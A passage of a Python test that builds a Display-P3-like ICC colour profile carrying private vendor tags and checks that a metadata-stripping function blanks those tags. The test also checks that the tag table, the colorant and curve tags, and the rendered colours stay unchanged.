        return b"XYZ \0\0\0\0" + struct.pack(">3i", *(round(v * 65536) for v in values))

    # a Display-P3-like matrix profile (its D50 colorants), with what a maker's tool adds:
    # a private tag of its own type, another of a colour type, a video card curve
    del tags[b"chrm"]
    tags.update({b"rXYZ": xyz(0.515121, 0.241196, -0.001053),
                 b"gXYZ": xyz(0.291977, 0.692245, 0.041885),
                 b"bXYZ": xyz(0.157104, 0.066574, 0.784073),
                 b"ZXML": b"ZXML\0\0\0\0<xml>PRIVATE-TAG Jane Doe instrument SN 5566</xml>",
                 b"JDOE": xyz(0.5566, 0.1234, 0.9988),
                 b"vcgt": b"vcgt\0\0\0\0\0\0\0\1" + b"VCGT-SECRET-CURVE" * 3})
    p3 = _icc_with_tags(srgb, tags, b"JANE")
    cleaned = icc_without_metadata(p3)
    assert len(cleaned) == len(p3) and cleaned[128:132 + 12 * len(tags)] == p3[
        128:132 + 12 * len(tags)]  # the same tag table: every entry, offset and length
    assert cleaned[4:8] == bytes(4)  # the preferred CMM: none
    for sig in (b"ZXML", b"JDOE", b"vcgt"):
        offset, length = _icc_tag_place(cleaned, sig)
        assert cleaned[offset:offset + length] == bytes(length), sig
    for sig in (b"wtpt", b"chad", b"rXYZ", b"gXYZ", b"bXYZ", b"rTRC"):
        offset, length = _icc_tag_place(p3, sig)
        assert cleaned[offset:offset + length] == p3[offset:offset + length], sig
    # the colours a colour-managed viewer shows are the same
    image, shown = _gradient(), []
    for profile in (p3, cleaned):
        opened = ImageCms.ImageCmsProfile(io.BytesIO(profile))
        shown.append(np.asarray(ImageCms.profileToProfile(
            image, opened, ImageCms.createProfile("sRGB"))))
    assert not np.array_equal(shown[0], np.asarray(image))  # P3 is not sRGB: a real check
    assert np.array_equal(*shown)
